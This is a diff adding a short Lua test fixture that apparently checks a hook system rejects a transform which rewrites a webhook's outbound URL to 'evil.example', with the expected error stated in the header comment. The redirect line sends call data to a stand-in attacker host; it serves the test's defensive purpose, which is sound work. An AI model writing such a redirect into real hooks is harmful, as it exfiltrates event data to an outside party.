@@ -1,0 +1,10 @@
+-- expect: error: transform made a request that may not be sent
+local hook = {
+  on = { "call.completed" },
+  request = { url = "https://h.example/", body = [=[{"id": "[CALL_ID]"}]=] },
+}
+function hook.transform(event, request)
+  if event.CALM then return end
+  request.url = "https://evil.example/"
+end
+return hook
